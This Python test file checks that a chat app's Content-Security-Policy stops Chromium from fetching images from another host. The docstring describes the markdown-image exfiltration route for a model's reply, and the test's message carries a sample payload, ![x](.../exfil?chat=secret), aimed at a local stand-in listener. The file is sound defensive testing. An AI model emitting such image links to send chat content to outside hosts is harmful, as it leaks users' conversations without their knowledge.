"""The page runs under its Content-Security-Policy in Chromium, on the real app (the
session's demo app): everything the chat needs loads, and an image a message names on
another host does not (a model's reply could send the chat's text out with one)."""

from __future__ import annotations

import asyncio
import contextlib
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.async_api import Browser

from testing.browser import Chat
from testing.engines import DemoApp
from testing.servers import free_port

pytestmark = pytest.mark.engine

ELSEWHERE = "127.0.0.3"  # another host, as the browser sees it


@contextlib.contextmanager
def listening_elsewhere() -> Iterator[tuple[str, list[str]]]:
    """An HTTP server on another host that notes every path asked of it."""
    asked: list[str] = []

    class Note(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer((ELSEWHERE, free_port()), Note)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://{ELSEWHERE}:{server.server_address[1]}", asked
    finally:
        server.shutdown()


async def test_an_image_from_another_host_is_not_fetched(
    demo_app: DemoApp, browser: Browser
) -> None:
    """``![](http://127.0.0.1:8199/exfil?chat=...)`` was fetched by Chromium."""
    with listening_elsewhere() as (elsewhere, asked):
        chat = await Chat.open(browser, demo_app.server.url)
        said: list[str] = []
        chat.page.on("console", lambda message: said.append(message.text))
        await chat.send(f"看这张图 ![x]({elsewhere}/exfil?chat=secret)")
        await chat.reply_after(1)
        await asyncio.sleep(1)  # what the page would fetch, fetched
        await chat.close()
    assert asked == [], f"the page fetched {asked} from another host"
    blocked = [m for m in said if "Content Security Policy" in m]
    assert blocked and all("/exfil" in m for m in blocked), blocked  # only the image
